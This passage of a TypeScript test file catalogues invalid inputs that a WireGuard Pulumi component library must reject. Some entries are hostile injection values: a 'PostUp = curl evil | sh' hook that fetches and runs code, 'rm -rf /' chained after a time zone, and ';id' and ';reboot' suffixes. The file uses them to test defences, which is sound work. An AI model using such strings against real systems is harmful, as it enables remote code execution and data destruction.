import { strict as assert } from "assert";
import { generateKeyPair, peerConf, renderWgQuick, WgKitError } from "@wgkit/core";
import * as pulumi from "@pulumi/pulumi";
import { ClientTunnel, ComponentError, componentLabel, Peer, SiteLink, WireGuardServer } from "@wgkit/pulumi";
import { RecordingMocks, useMocks } from "../support/mocks";

/**
 * The bad-input catalogue: every case must fail before any resource is registered, with a
 * WgKitError naming the field and the rule.
 */
const K = generateKeyPair(), S = generateKeyPair();
const conf = renderWgQuick(peerConf({ privateKey: K.privateKey, address: "10.64.0.2", serverPublicKey: S.publicKey, endpoint: "198.51.100.10:51820" }));
const HOSTILE = ["x\ny", "x\rPostUp = id", "x\u0000", "x [Peer]", "PostUp = touch /pwned"];

type Ctor = "server" | "peer" | "tunnel" | "link";
type Case = {
  c: Ctor; args: Record<string, unknown>; field: string; rule: string | RegExp; what: string; name?: string; notIn?: string[]; cls?: string;
  /** Builds args (and name) inside the test, for values that must be created under the mocks (Outputs). */
  lazy?: () => { args: unknown; name?: unknown };
};
const base: Record<Ctor, Record<string, unknown>> = {
  server: { serverUrl: "vpn.example.com" },
  peer: { serverPublicKey: S.publicKey, endpoint: "vpn.example.com:51820", address: "10.13.13.2" },
  tunnel: { config: conf },
  link: { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"], publishPort: 51821 } },
};
const srv = (args: object, field: string, rule: string | RegExp, what: string): Case => ({ c: "server", args: { ...base.server, ...args }, field, rule, what });
const peer = (args: object, field: string, rule: string | RegExp, what: string): Case => ({ c: "peer", args: { ...base.peer, ...args }, field, rule, what });
const tun = (args: object, field: string, rule: string | RegExp, what: string): Case => ({ c: "tunnel", args: { ...base.tunnel, ...args }, field, rule, what });
const site = (a: object, b: object, extra: object, field: string, rule: string | RegExp, what: string): Case => ({
  c: "link", args: { siteA: { ...(base.link.siteA as object), ...a }, siteB: { ...(base.link.siteB as object), ...b }, ...extra }, field, rule, what,
});

export const CATALOGUE: Case[] = [
  // WireGuardServer
  srv({ serverUrl: undefined }, "serverUrl", "required", "missing serverUrl"),
  srv({ serverUrl: "auto" }, "serverUrl", "no-auto", "SERVERURL=auto"),
  srv({ serverUrl: "-bad.example.com" }, "serverUrl", "host", "label starts with a dash"),
  srv({ serverUrl: "a".repeat(64) + ".com" }, "serverUrl", "host", "label over 63 characters"),
  srv({ serverPort: 0 }, "serverPort", "port-range", "port 0"),
  srv({ serverPort: 65536 }, "serverPort", "port-range", "port 65536"),
  srv({ serverPort: 51820.5 }, "serverPort", "port-range", "fractional port"),
  srv({ subnet: "10.13.13.0/33" }, "subnet", "cidr", "prefix 33"),
  srv({ subnet: "10.13.13" }, "subnet", "cidr", "three-part address"),
  srv({ subnet: "10.13.13.7/24" }, "subnet", "network-address", "host bits set"),
  srv({ subnet: "10.13.13.0/31" }, "subnet", "prefix-too-long", "no room for server and peer"),
  srv({ subnet: "fd42::/64" }, "subnet", "family", "IPv6 as subnet"),
  srv({ subnet6: "10.0.0.0/24" }, "subnet6", "family", "IPv4 as subnet6"),
  srv({ subnet6: "fd42::/127" }, "subnet6", "prefix-too-long", "IPv6 /127"),
  srv({ dns: ["auto", "1.1.1.1"] }, "dns", "dns-auto", "auto mixed with resolvers"),
  srv({ dns: ["not a host"] }, "dns[0]", "dns", "DNS entry with spaces"),
  srv({ allowedIps: ["0.0.0.0/0", "10.0.0.0/40"] }, "allowedIps[1]", "cidr", "bad AllowedIPs CIDR"),
  srv({ mtu: 100 }, "mtu", "mtu-range", "MTU below 1280"),
  srv({ persistentKeepalive: 70000 }, "persistentKeepalive", "keepalive-range", "keepalive over 65535"),
  srv({ puid: -1 }, "puid", "id-range", "negative PUID"),
  srv({ tz: "Europe/Berlin; rm -rf /" }, "tz", "tz", "TZ with shell"),
  srv({ image: "Bad Image:latest" }, "image", "image-ref", "image with space and capitals"),
  srv({ configPath: "relative/path" }, "configPath", "path", "relative config path"),
  srv({ configPath: "/srv/../etc" }, "configPath", "path", "config path with .."),
  srv({ configPath: "/" }, "configPath", "system-path", "config path / (the image chowns it)"),
  srv({ configPath: "/etc/wireguard" }, "configPath", "system-path", "config path inside /etc"),
  srv({ readyTimeoutSeconds: 0 }, "readyTimeoutSeconds", "timeout-range", "zero ready timeout"),
  srv({ dockerHost: "ssh://host\nEVIL=1" }, "dockerHost", "docker-host", "newline in DOCKER_HOST"),
  srv({ networks: ["lan; id"] }, "networks[0]", "network-name", "bad network name"),
  srv({ peers: { "bad name": {} } }, "peers.bad name", "name", "peer name with a space"),
  srv({ peers: { ["p".repeat(64)]: {} } }, `peers.${"p".repeat(64)}`, "name", "peer name over 63 chars"),
  srv({ peers: { a: { address: "10.9.9.9" } } }, "peers.a.address", "outside-subnet", "pin outside the subnet"),
  srv({ peers: { a: { address: "10.13.13.1" } } }, "peers.a.address", "server-address", "pin on the server"),
  srv({ peers: { a: { address: "10.13.13.0" } } }, "peers.a.address", "network-address", "pin on the network address"),
  srv({ peers: { a: { address: "10.13.13.255" } } }, "peers.a.address", "broadcast-address", "pin on broadcast"),
  srv({ peers: { a: { address: "10.13.13.5" }, b: { address: "10.13.13.5" } } }, "peers.b.address", "duplicate-address", "duplicate pins"),
  srv({ subnet: "10.13.13.0/30", peers: { a: {}, b: {} } }, "peers", "subnet-exhausted", "subnet exhausted"),
  srv({ peers: { a: { address6: "fd42::5" } } }, "peers.a.address6", "no-subnet6", "address6 without subnet6"),
  srv({ peers: { a: { publicKey: "not-a-key" } } }, "peers.a.publicKey", "key-format", "publicKey not base64"),
  srv({ peers: { a: { publicKey: Buffer.alloc(31).toString("base64") } } }, "peers.a.publicKey", "key-format", "31-byte key"),
  srv({ peers: { a: { publicKey: K.publicKey }, b: { publicKey: K.publicKey } } }, "peers.b.publicKey", "duplicate-key", "two peers with one key"),
  srv({ peers: { a: { serverAllowedIps: ["10.13.0.0/16"] } } }, "peers.a.serverAllowedIps[0]", "overlap", "peer LAN overlaps the tunnel"),
  srv({ peers: { a: { serverAllowedIps: ["192.168.1.0/24"] }, b: { serverAllowedIps: ["192.168.0.0/16"] } } }, "peers.b.serverAllowedIps[0]", "overlap", "two peers route one LAN"),
  srv({ peers: { a: { persistentKeepalive: -1 } } }, "peers.a.persistentKeepalive", "keepalive-range", "negative keepalive"),
  // Hub (issue 20): access rules, groups, names
  srv({ peers: { a: {} }, access: { rules: [{ from: "tablet", to: "*" }] } }, "access.rules[0].from", "unknown-peer", "rule from an unknown peer"),
  srv({ peers: { a: { groups: ["admins"] } }, access: { rules: [{ from: "*", to: "group:ops" }] } }, "access.rules[0].to", "unknown-group", "rule to a group no peer is in"),
  srv({ peers: { a: {} }, access: { rules: [{ from: "*", to: "10.1.2.0/33" }] } }, "access.rules[0].to", "cidr", "malformed CIDR target"),
  srv({ peers: { a: {} }, access: { rules: [{ from: "*", to: "a b" }] } }, "access.rules[0].to", "reference", "malformed reference"),
  srv({ peers: { a: {} }, access: { rules: [{ from: "internet", to: "a" }] } }, "access.rules[0].from", "source-kind", "internet as a source"),
  srv({ peers: { a: {} }, access: { rules: [{ from: "*", to: "a", protocol: "icmp", ports: ["22"] }] } }, "access.rules[0].ports", "ports-protocol", "ports with icmp"),
  srv({ peers: { a: {} }, access: { rules: [{ from: "*", to: "a", ports: ["70000"] }] } }, "access.rules[0].ports[0]", "ports", "port over 65535"),
  srv({ peers: { a: {} }, access: { default: "block" } }, "access.default", "access-default", "unknown default"),
  srv({ peers: { server: {} }, access: { default: "deny" } }, "peers.server", "reserved-name", "a peer named like a keyword"),
  srv({ peers: { a: { groups: ["bad group"] } } }, "peers.a.groups[0]", "name", "group name with a space"),
  srv({ domain: "WG.Internal" }, "domain", "domain", "domain not lower case"),
  srv({ domain: "wg..internal" }, "domain", "domain", "domain with an empty label"),
  srv({ peers: { a: { enabled: "yes" } } }, "peers.a.enabled", "type", "enabled not boolean"),
  // Peer
  peer({ serverPublicKey: undefined }, "serverPublicKey", "required", "missing server key"),
  peer({ serverPublicKey: "abc=" }, "serverPublicKey", "key-format", "short server key"),
  peer({ endpoint: "vpn.example.com" }, "endpoint", "endpoint", "endpoint without port"),
  peer({ endpoint: "vpn.example.com:0" }, "endpoint", "port-range", "endpoint port 0"),
  peer({ endpoint: "[vpn.example.com]:51820" }, "endpoint", "endpoint", "host name in brackets"),
  peer({ endpoint: "2001:db8::1:51820" }, "endpoint", "endpoint", "IPv6 endpoint without brackets"),
  peer({ address: "10.13.13.2/32" }, "address", "ip-address", "address with prefix"),
  peer({ address: "fd42::2" }, "address", "family", "IPv6 as address"),
  peer({ address6: "10.13.13.2" }, "address6", "family", "IPv4 as address6"),
  peer({ listenPort: 70000 }, "listenPort", "port-range", "listen port too high"),
  peer({ interfaceName: "wg0-interface-too-long" }, "interfaceName", "interface-name", "interface name over 15 chars"),
  peer({ interfaceName: "wg 0" }, "interfaceName", "interface-name", "interface name with space"),
  // ClientTunnel
  tun({ config: "" }, "config", "required", "empty conf"),
  tun({ config: conf + "[Interface]\nPrivateKey = " + K.privateKey + "\n" }, `config:line ${conf.split("\n").length}`, "duplicate-interface", "two [Interface] sections"),
  tun({ config: conf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }, "config", "hooks-not-allowed", "provider conf with PostUp"),
  tun({ config: conf.replace(/^PrivateKey.*$/m, "") }, "config", "private-key", "conf without PrivateKey"),
  tun({ config: conf.replace(/^AllowedIPs.*$/m, "AllowedIPs = 0.0.0.0/0\nFoo = bar") }, "config:line 9", "unknown-key", "unknown key in [Peer]"),
  tun({ config: "[Interface]\nSaveConfig = true\nPrivateKey = " + K.privateKey + "\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = " + S.publicKey + "\nAllowedIPs = 0.0.0.0/0\n" }, "config", "save-config", "SaveConfig = true"),
  tun({ table: "main" }, "table", "reserved-table", "the main table for a split tunnel"),
  tun({ table: "off" }, "table", "split-table", "table off for split tunnel"),
  tun({ table: "4294967296" }, "table", "table", "table number over 2^32-1"),
  tun({ routeDestinations: ["10.0.0.0/8"] }, "routeDestinations", "needs-table", "routes without a table"),
  tun({ table: "55111", routeSources: ["10.0.0.0/33"] }, "routeSources[0]", "cidr", "bad source CIDR"),
  tun({ killSwitch: true, killSwitchAllow: ["lan"] }, "killSwitchAllow[0]", "cidr", "kill switch allow not a CIDR"),
  tun({ publishPorts: [{ internal: 0 }] }, "publishPorts[0].internal", "port-range", "published port 0"),
  tun({ publishPorts: [{ internal: 80, protocol: "sctp" }] }, "publishPorts[0].protocol", "enum", "unknown protocol"),
  tun({ interfaceName: "wg0;reboot" }, "interfaceName", "interface-name", "interface name with ;"),
  // SiteLink
  site({ lans: ["192.168.1.0/24"] }, { lans: ["192.168.1.128/25"] }, {}, "siteB.lans[0]", "overlap", "overlapping LANs"),
  site({}, { lans: ["10.255.13.0/30"] }, {}, "siteB.lans[0]", "overlap", "LAN overlaps the tunnel subnet"),
  site({ endpoint: undefined }, {}, {}, "siteA.endpoint", "no-endpoint", "nobody can dial"),
  site({ lans: [] }, {}, {}, "siteA.lans", "required", "site without LANs"),
  site({ name: "a b" }, {}, {}, "siteA.name", "name", "site name with space"),
  site({}, { name: "a" }, {}, "siteB.name", "duplicate-name", "both sites named alike"),
  site({}, {}, { mode: "bridged" }, "mode", "enum", "unknown mode"),
  site({}, {}, { tunnelSubnet: "10.255.13.0/31" }, "tunnelSubnet", "prefix-too-long", "tunnel /31"),
  site({ endpoint: "a.example.com" }, {}, {}, "siteA.endpoint", "endpoint", "site endpoint without port"),
  site({ publishPort: 99999 }, {}, {}, "siteA.publishPort", "port-range", "site port too high"),
  site({ lans: ["192.168.1.0/24", "fd42:a::/64"] }, {}, {}, "siteA.lans[1]", "ipv4-only", "IPv6 LAN (not routable by the IPv4 site link)"),
];

// rotation only feeds RandomBytes keepers (never a conf), but control characters are refused there too
for (const h of HOSTILE.slice(0, 3)) CATALOGUE.push(srv({ rotation: h }, "rotation", "single-line", `rotation ${JSON.stringify(h)}`));

// Hostile strings in every plain string field: no line, NUL or section may get through.
for (const h of HOSTILE) {
  CATALOGUE.push(
    srv({ serverUrl: h }, "serverUrl", "host", `serverUrl ${JSON.stringify(h)}`),
    srv({ peers: { a: { dns: [h] } } }, "peers.a.dns[0]", "dns", `peer dns ${JSON.stringify(h)}`),
    srv({ peers: { a: { serverAllowedIps: [h] } } }, "peers.a.serverAllowedIps[0]", "cidr", `serverAllowedIps ${JSON.stringify(h)}`),
    srv({ peers: { a: {} }, access: { rules: [{ from: "*", to: h }] } }, "access.rules[0].to", /reference|cidr/, `access target ${JSON.stringify(h)}`),
    srv({ domain: h }, "domain", "domain", `domain ${JSON.stringify(h)}`),
    peer({ endpoint: h }, "endpoint", "endpoint", `endpoint ${JSON.stringify(h)}`),
    peer({ allowedIps: [h] }, "allowedIps[0]", "cidr", `allowedIps ${JSON.stringify(h)}`),
    tun({ dns: [h] }, "dns[0]", "dns", `tunnel dns ${JSON.stringify(h)}`),
    site({ endpoint: h }, {}, {}, "siteA.endpoint", /endpoint|host/, `site endpoint ${JSON.stringify(h)}`),
  );
}

CATALOGUE.push({ c: "server", args: base.server, field: "name", rule: "name", what: "component name that is no Docker name", name: "my server" } as Case);

/**
 * Issue 13 (hardening II): one group per class; each case names its class. A held-out set runs
 * against the same rules, so each class is covered by its rule, not by its examples.
 */
const cls = (c: string, cases: Case[]) => cases.map((x) => ({ ...x, cls: c }));
const ownKeyConf = conf.replace(/^PublicKey = .*$/m, `PublicKey = ${K.publicKey}`);
const v6conf = conf.replace(/^AllowedIPs = .*$/m, "AllowedIPs = 0.0.0.0/0, ::/0");
const wrapped = (tail: string) => conf.replace(/^PrivateKey = (.*)$/m, (_l, k: string) => `PrivateKey = ${k.slice(0, 44 - tail.length)}\n${tail}`);
const letterTail = "Ab" + K.privateKey.replace(/[^A-Za-z]/g, "").slice(0, 10) + "="; // a wrapped tail that looks like a key name
export const HARDENING: Case[] = [
  ...cls("1 host paths", [
    tun({ configPath: "/./etc" }, "configPath", "system-path", "dot segment into /etc"),
    srv({ configPath: "/var/run/docker.sock.d" }, "configPath", "system-path", "server config path under /var/run"),
    tun({ configPath: "//etc//wg" }, "configPath", "system-path", "doubled slashes into /etc"),
    tun({ configPath: "/var/run/docker" }, "configPath", "system-path", "/var/run (→ /run) tree"),
    tun({ configPath: "/var/lib/docker/volumes/x" }, "configPath", "system-path", "Docker's data root"),
    tun({ configPath: "/var/lib/containerd" }, "configPath", "system-path", "containerd's data root"),
    tun({ configPath: "/lib/modules" }, "configPath", "system-path", "/lib (→ /usr/lib) tree"),
    tun({ configPath: "/root/wg" }, "configPath", "system-path", "root's home"),
    tun({ configPath: "/home/alice" }, "configPath", "system-path", "a user's home directory itself"),
    tun({ configPath: "/home/alice/.ssh" }, "configPath", "system-path", "a credentials directory"),
    tun({ configPath: "/proc/self/root" }, "configPath", "system-path", "/proc path to the root"),
    site({ configPath: "/srv/." }, {}, {}, "siteA.configPath", "system-path", "site config path /srv/. (= /srv)"),
  ]),
  ...cls("3 kill switch", [
    tun({ killSwitchAllow: ["198.18.0.0/15"] }, "killSwitchAllow", "needs-kill-switch", "killSwitchAllow without killSwitch"),
    tun({ killSwitch: true, killSwitchAllow: ["0.0.0.0/0"] }, "killSwitchAllow[0]", "whole-space", "killSwitchAllow of everything (disables it)"),
  ]),
  ...cls("4 late failures", [
    tun({ routeDestinations: "10.0.0.0/8", table: "55111" }, "routeDestinations", "type", "string where a list is expected"),
    srv({ peers: { a: { serverAllowedIps: "192.168.1.0/24" } } }, "peers.a.serverAllowedIps", "type", "serverAllowedIps as a string"),
    srv({ allowedIps: "0.0.0.0/0, ::/0" }, "allowedIps", "type", "server allowedIps as a comma string"),
    peer({ allowedIps: "0.0.0.0/0" }, "allowedIps", "type", "Peer allowedIps as a string"),
    tun({ dns: "1.1.1.1" }, "dns", "type", "dns as a string"),
    tun({ networks: "lan" }, "networks", "type", "networks as a string"),
    site({ lans: "192.168.1.0/24" }, {}, {}, "siteA.lans", "type", "lans as a string"),
    { c: "tunnel", args: base.tunnel, field: "name", rule: "docker-name", what: "1-character name Docker refuses", name: "t" },
    { c: "link", args: base.link, field: "name", rule: "docker-name", what: "1-character SiteLink name", name: "l" },
    { c: "tunnel", args: null as never, field: "args", rule: "type", what: "null args" },
    { c: "link", args: null as never, field: "args", rule: "type", what: "null SiteLink args" },
    { c: "link", args: { ...base.link, siteA: null }, field: "siteA", rule: "type", what: "null site" },
    { c: "tunnel", args: [conf] as never, field: "args", rule: "type", what: "args as a list" },
  ]),
  ...cls("5 literals", [
    peer({ endpoint: "0x7f.1:51820" }, "endpoint", "host", "hex IPv4 as a host name"),
    srv({ serverUrl: "0x7f.1" }, "serverUrl", "host", "serverUrl in hex IPv4 notation"),
    srv({ serverUrl: "127.1" }, "serverUrl", "host", "serverUrl in two-part IPv4 notation"),
    srv({ dns: ["AUTO"] }, "dns[0]", "dns-auto", "server dns auto in capitals"),
    peer({ endpoint: "017.0.0.1:51820" }, "endpoint", "host", "octal IPv4 as a host name"),
    peer({ endpoint: "2130706433:51820" }, "endpoint", "host", "IPv4 as one number"),
    peer({ endpoint: "vpn.0x7f:51820" }, "endpoint", "host", "host name ending in a hex number"),
    peer({ endpoint: "[::ffff:010.1.1.1]:51820" }, "endpoint", /endpoint|host/, "leading zero inside IPv4-mapped IPv6"),
    peer({ endpoint: "[::1.2.3.4]:51820" }, "endpoint", /endpoint|host/, "IPv4-compatible IPv6 ipaddr.js reads as ::ffff:1.2.3.4"),
    tun({ dns: ["010.0.0.1"] }, "dns[0]", "dns", "resolver with a leading zero"),
    tun({ dns: ["AUTO"] }, "dns[0]", "dns-auto", "dns auto in capitals"),
    tun({ dns: ["auto"] }, "dns[0]", "dns-auto", "dns auto where a ClientTunnel cannot resolve it"),
    peer({ dns: ["Auto"] }, "dns[0]", "dns-auto", "dns auto in a Peer"),
    tun({ table: "010" }, "table", "table", "table with a leading zero (octal 8 to iproute2)"),
    tun({ table: "0x10" }, "table", "table", "hex table"),
    tun({ table: "254" }, "table", "reserved-table", "table 254 (main)"),
    tun({ table: "local" }, "table", "reserved-table", "table local"),
    tun({ table: "0" }, "table", "reserved-table", "table 0"),
    tun({ interfaceName: "up" }, "interfaceName", "interface-keyword", "interface named up"),
    tun({ interfaceName: "help" }, "interfaceName", "interface-keyword", "interface named help"),
    tun({ interfaceName: "he" }, "interfaceName", "interface-keyword", "interface named he (ip matches help by prefix)"),
    tun({ interfaceName: "all" }, "interfaceName", "interface-keyword", "interface named all"),
    tun({ interfaceName: "dev" }, "interfaceName", "interface-keyword", "interface named dev"),
    tun({ interfaceName: "eth0" }, "interfaceName", "interface-keyword", "interface named eth0 (the container's)"),
    peer({ interfaceName: "down" }, "interfaceName", "interface-keyword", "Peer interface named down"),
    tun({ interfaceName: "lo" }, "interfaceName", "interface-keyword", "tunnel interface named lo (the container's)"),
    site({ lans: ["192.168.1.5/24"] }, {}, {}, "siteA.lans[0]", "host-bits", "LAN with host bits set"),
    site({ lans: ["0.0.0.0/0"] }, {}, {}, "siteA.lans[0]", "whole-space", "LAN of the whole space"),
    site({ lans: ["127.0.0.0/8"] }, {}, {}, "siteA.lans[0]", "unusable-subnet", "loopback LAN"),
    site({ lans: ["224.0.0.0/24"] }, {}, {}, "siteA.lans[0]", "unusable-subnet", "multicast LAN"),
    site({}, {}, { tunnelSubnet: "169.254.0.0/30" }, "tunnelSubnet", "unusable-subnet", "link-local tunnel subnet"),
    tun({ table: "55111", routeDestinations: ["0.0.0.0/0"] }, "routeDestinations[0]", "whole-space", "split tunnel of everything"),
    tun({ table: "55111", routeSources: ["10.0.0.1/8"] }, "routeSources[0]", "host-bits", "route source with host bits"),
  ]),
  ...cls("6 provider confs", [
    tun({ config: ownKeyConf }, "config.peers[0].publicKey", "own-public-key", "peer with the interface's own public key"),
    tun({ config: conf.replace("[Peer]", "Table = main\n\n[Peer]") }, "config", "reserved-table", "Table = main in a full-tunnel conf"),
    tun({ config: v6conf.replace("[Peer]", "MTU = 1200\n\n[Peer]") }, "config", "mtu-ipv6", "MTU 1200 with ::/0"),
    tun({ config: conf.replace(/^AllowedIPs = .*$/m, "AllowedIPs = 10.0.0.0/8 10.1.0.0/16") }, "config.peers[0].allowedIps[0]", "cidr", "space-separated AllowedIPs (wg rejects it)"),
    tun({ config: conf.replace("[Peer]", "SaveConfig = yes\n\n[Peer]") }, /^config:line \d+$/ as never, "boolean", "SaveConfig = yes (wg-quick rejects it)"),
  ]),
  ...cls("7 key material in errors", [
    { ...tun({ config: wrapped(letterTail) }, "config:line 3", "unknown-key", "wrapped PrivateKey whose tail looks like a key name"), notIn: [letterTail.slice(0, -1), letterTail.slice(2, 8)] },
    { ...tun({ config: wrapped("xYz=") }, "config:line 3", "unknown-key", "wrapped PrivateKey, short tail"), notIn: ["xYz"] },
  ]),
  ...cls("8 collisions", [
    site({ name: "vpn--x" }, {}, {}, "siteA.name", "docker-name", "site name containing the separator"),
    { c: "tunnel", args: base.tunnel, field: "name", rule: "docker-name", what: "a component name containing '--' (reserved for SiteLink ends)", name: "home--vpn" },
    { c: "link", args: base.link, field: "name", rule: "docker-name", what: "a SiteLink name ending in '-'", name: "home-" },
  ]),
];
/** Issue 19 (hardening III), class 4: provider confs that come up and carry nothing. */
const noEndpoint = conf.replace(/^Endpoint = .*\n/m, "");
export const HARDENING_III_PROVIDER: Case[] = cls("19.4 provider confs", [
  tun({ config: `${conf}\n[Peer]\nPublicKey = ${generateKeyPair().publicKey}\nEndpoint = 198.51.100.11:51820\nAllowedIPs = 0.0.0.0/0\n` }, "config.peers[1].allowedIps[0]", "duplicate-allowed-ips", "the same AllowedIPs on two peers"),
  tun({ config: conf.replace("[Peer]", "Table = off\n\n[Peer]") }, "config", "table-off", "Table = off without table"),
  tun({ config: conf.replace("[Peer]", "Table = 1234\n\n[Peer]") }, "config", "table-without-rules", "a numbered Table without table"),
  tun({ config: conf.replace(/^AllowedIPs = .*\n/m, "") }, "config", "no-routes", "a peer without AllowedIPs"),
  tun({ config: conf.replace(/^AllowedIPs = .*$/m, "AllowedIPs = 10.64.0.2/32") }, "config", "no-routes", "AllowedIPs only the tunnel's own address"),
  tun({ config: noEndpoint }, "config.peers[0].endpoint", "no-handshake", "a peer without Endpoint"),
  tun({ config: noEndpoint.replace("[Peer]", "ListenPort = 51820\n\n[Peer]"), publishPorts: [{ internal: 51820 }] }, "config.peers[0].endpoint", "no-handshake", "ListenPort published over TCP only"),
]);
CATALOGUE.push(...HARDENING, ...HARDENING_III_PROVIDER);

/**
 * Issue 19, class 3: values shaped the way another Pulumi language (or the component plugin's
 * deserializer) delivers them — prototype keys, partly unknown lists, whole objects as Outputs,
 * Outputs where a value must be plain. Built lazily: Outputs are made under the mocks.
 */
const out = <T>(v: T) => pulumi.output(v);
const shape = (c: Ctor, lazy: () => { args: unknown; name?: unknown }, field: string, rule: string | RegExp, what: string): Case =>
  ({ c, args: {}, lazy, field, rule, what, cls: "19.3 foreign shapes" });
const withBase = (c: Ctor, extra: object) => () => ({ args: { ...base[c], ...extra } });
const parsed = (c: Ctor, json: string) => () => ({ args: { ...base[c], ...JSON.parse(json) } });
export const SHAPES: Case[] = [
  // prototype keys, as JSON.parse (or another language's map) delivers them
  shape("server", parsed("server", '{"peers":{"__proto__":{"address":"10.13.13.9"}}}'), "peers.__proto__", "prototype-key", "peer named __proto__ (JSON)"),
  shape("server", withBase("server", { peers: { constructor: {} } }), "peers.constructor", "prototype-key", "peer named constructor"),
  shape("server", () => ({ args: { ...base.server, peers: Object.defineProperty({}, "prototype", { value: {}, enumerable: true }) } }), "peers.prototype", "prototype-key", "peer named prototype (defineProperty)"),
  shape("server", () => ({ args: JSON.parse('{"serverUrl":"vpn.example.com","__proto__":{"subnet":"10.0.0.0/33"}}') }), "__proto__", "prototype-key", "__proto__ key in the args"),
  shape("server", () => ({ args: { ...base.server, peers: { a: Object.create({ privateKey: K.privateKey }) } } }), "peers.a.privateKey", "prototype-key", "peer setting inherited from a prototype"),
  shape("peer", parsed("peer", '{"__proto__":{"address":"10.13.13.3"}}'), "__proto__", "prototype-key", "__proto__ key in Peer args"),
  shape("tunnel", () => ({ args: { ...base.tunnel, publishPorts: JSON.parse('[{"internal":80,"__proto__":{"external":22}}]') } }), "publishPorts[0].__proto__", "prototype-key", "__proto__ in a published port"),
  shape("link", () => ({ args: { ...base.link, siteB: { ...(base.link.siteB as object), ...JSON.parse('{"__proto__":{"publishPort":1}}') } } }), "siteB.__proto__", "prototype-key", "__proto__ in a site"),
  // lists with unknown entries: the known entries are checked now
  shape("server", () => ({ args: { ...base.server, allowedIps: ["0.0.0.0/33", out("::/0")] } }), "allowedIps[0]", "cidr", "bad AllowedIPs next to an output"),
  shape("server", () => ({ args: { ...base.server, dns: [pulumi.unknown, "not a host"] } }), "dns[1]", "dns", "bad DNS next to the SDK's unknown"),
  shape("server", () => ({ args: { ...base.server, peers: { a: { serverAllowedIps: [out("192.168.9.0/24"), "192.168.1.5/24"] } } } }), "peers.a.serverAllowedIps[1]", "host-bits", "bad peer LAN next to an output"),
  shape("peer", () => ({ args: { ...base.peer, allowedIps: [out("10.0.0.0/8"), "10.0.0.0/40"] } }), "allowedIps[1]", "cidr", "bad Peer AllowedIPs next to an output"),
  shape("peer", () => ({ args: { ...base.peer, dns: ["1.1.1.1", out("9.9.9.9"), "x y"] } }), "dns[2]", "dns", "bad Peer DNS after an output"),
  shape("tunnel", () => ({ args: { ...base.tunnel, table: "55111", routeDestinations: [out("10.1.0.0/16"), "10.0.0.1/8"] } }), "routeDestinations[1]", "host-bits", "bad route next to an output"),
  shape("tunnel", () => ({ args: { ...base.tunnel, networks: ["lan", out("x"), "lan; id"] } }), "networks[2]", "network-name", "bad network after an output"),
  shape("link", () => ({ args: { ...base.link, siteA: { ...(base.link.siteA as object), lans: ["192.168.1.0/24", out("10.9.0.0/16"), "192.168.1.128/25"] } } }), "siteA.lans[2]", "overlap", "overlapping LANs around an output"),
  // whole objects as Outputs
  shape("server", () => ({ args: out(base.server) }), "args", "plain", "server args as an output"),
  shape("server", () => ({ args: { ...base.server, peers: { a: out({ privateKey: K.privateKey }) } } }), "peers.a", "plain", "a peer as an output"),
  shape("peer", () => ({ args: out(base.peer) }), "args", "plain", "Peer args as an output"),
  shape("tunnel", () => ({ args: out(base.tunnel) }), "args", "plain", "tunnel args as an output"),
  shape("tunnel", () => ({ args: { ...base.tunnel, publishPorts: out([{ internal: 80 }]) } }), "publishPorts", "plain", "published ports as an output"),
  shape("tunnel", () => ({ args: { ...base.tunnel, publishPorts: [out({ internal: 80 })] } }), "publishPorts[0]", "plain", "a published port as an output"),
  shape("link", () => ({ args: out(base.link) }), "args", "plain", "SiteLink args as an output"),
  shape("link", () => ({ args: { ...base.link, siteA: out(base.link.siteA) } }), "siteA", "plain", "a site as an output"),
  // Outputs where the value must be plain (names, ports, container settings)
  shape("server", () => ({ args: base.server, name: out("home") }), "name", "plain", "server name as an output"),
  shape("peer", () => ({ args: base.peer, name: out("laptop") }), "name", "plain", "Peer name as an output"),
  shape("tunnel", () => ({ args: base.tunnel, name: out("vpn") }), "name", "plain", "tunnel name as an output"),
  shape("link", () => ({ args: base.link, name: out("hq") }), "name", "plain", "SiteLink name as an output"),
  shape("link", () => ({ args: { ...base.link, siteA: { ...(base.link.siteA as object), name: out("a") } } }), "siteA.name", "plain", "site name as an output"),
  shape("link", () => ({ args: { ...base.link, siteB: { ...(base.link.siteB as object), publishPort: out(51821) } } }), "siteB.publishPort", "plain", "site port as an output"),
  shape("tunnel", () => ({ args: { ...base.tunnel, publishPorts: [{ internal: 80, external: out(8080) }] } }), "publishPorts[0].external", "plain", "published port number as an output"),
  shape("tunnel", () => ({ args: { ...base.tunnel, interfaceName: out("wg1") } }), "interfaceName", "plain", "tunnel interface name as an output"),
  shape("server", () => ({ args: { ...base.server, puid: out(1000) } }), "puid", "plain", "PUID as an output"),
  shape("server", () => ({ args: { ...base.server, readyTimeoutSeconds: out(30) } }), "readyTimeoutSeconds", "plain", "ready timeout as an output"),
  shape("link", () => ({ args: { ...base.link, siteA: { ...(base.link.siteA as object), image: out("x") } } }), "siteA.image", "plain", "site image as an output"),
];
CATALOGUE.push(...SHAPES);

/** Issue 19, class 5: published host ports that collide on one engine (across components: Uniqueness.test.ts). */
CATALOGUE.push(
  { ...tun({ publishPorts: [{ internal: 80 }, { internal: 8080, external: 80 }] }, "publishPorts[1].external", "port-collision", "two published ports on one host port"), cls: "19.5 uniqueness" },
  { ...tun({ publishPorts: [{ internal: 53, protocol: "udp" }, { internal: 53, protocol: "udp" }] }, "publishPorts[1].internal", "port-collision", "one udp port published twice"), cls: "19.5 uniqueness" },
  { ...site({}, { publishPort: undefined }, {}, "siteB.publishPort", "port-collision", "both sites on one engine with the default port"), cls: "19.5 uniqueness" },
  { ...site({ publishPort: 51900, dockerHost: "ssh://a@203.0.113.1" }, { publishPort: 51900, dockerHost: "ssh://a@203.0.113.1" }, {}, "siteB.publishPort", "port-collision", "both sites on one remote engine with one port"), cls: "19.5 uniqueness" },
);

const nameOf = (c: Case, made?: { name?: unknown }): string => (made?.name ?? c.name ?? (c.c === "server" ? "ts" : c.c === "peer" ? "t" : "tc")) as string;
const construct = (c: Case, made = c.lazy?.()) => {
  const args = (made ? made.args : c.args) as never;
  switch (c.c) {
    case "server": return new WireGuardServer(nameOf(c, made), args);
    case "peer": return new Peer(nameOf(c, made), args);
    case "tunnel": return new ClientTunnel(nameOf(c, made), args);
    case "link": return new SiteLink(nameOf(c, made), args);
  }
};

describe("Bad-input catalogue", () => {
  after(() => {
